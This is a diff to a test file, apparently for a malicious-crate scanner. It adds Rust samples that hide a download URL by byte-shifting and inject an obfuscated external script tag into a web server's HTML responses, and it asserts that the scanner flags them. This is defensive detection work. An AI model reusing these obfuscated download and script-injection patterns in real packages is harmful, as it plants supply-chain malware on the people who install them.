@@ -574,3 +574,38 @@ def test_a_secret_of_the_build_environment_compiled_in_and_sent() -> None:
         '.set("User-Agent", VERSION).query("sha", SHA.unwrap_or("")).call();\n}\n'
     )
     assert flows(harmless) == []
+
+
+def test_a_download_through_an_extension_hosts_function_to_a_hidden_url() -> None:
+    source = (
+        'const K: [u8; 25] = *b"iuuqt;00sfmfbtft/fybnqmf0";\n'
+        "fn base() -> String { K.iter().map(|b| (b - 1) as char).collect() }\n"
+        "pub fn install(dir: &str) {\n"
+        '    let _ = zed::download_file(&format!("{}x64.tar.gz", base()), dir, zed::GzipTar);\n'
+        "}\n"
+    )
+    (flow,) = unit_flows({"src/lib.rs": source.encode()}, "sample", sending=False).flows
+    assert (flow.function, flow.sink, flow.action, flow.hidden) == (
+        "install",
+        "request URL",
+        "contact",
+        True,
+    )
+
+
+def test_the_names_a_web_servers_code_hides_are_read_without_a_sink() -> None:
+    tag = '<script src="https://cdn.example/m.js"></script>'
+    codes = ", ".join(str(ord(c) + 1) for c in tag)
+    source = (
+        f"const T: [u8; {len(tag)}] = [{codes}];\n"
+        "fn shim() -> String { T.iter().map(|b| (b - 1) as char).collect() }\n"
+        "pub fn adapt(page: axum::response::Html<String>) -> axum::response::Html<String> {\n"
+        '    axum::response::Html(page.0.replace("</head>", &(shim() + "</head>")))\n'
+        "}\n"
+    )
+    manifest = b'[package]\nname = "minify"\nversion = "0.1.0"\n'
+    archive = CrateArchive("minify", {"Cargo.toml": manifest, "src/lib.rs": source.encode()}, ())
+    scan = scan_crate(archive, "minify")
+    found = {e.rule for e in scan.findings}
+    assert {"capability-web-server", "threat-hidden-script-tag"} <= found
+    assert scan.verdict.value == "malicious"
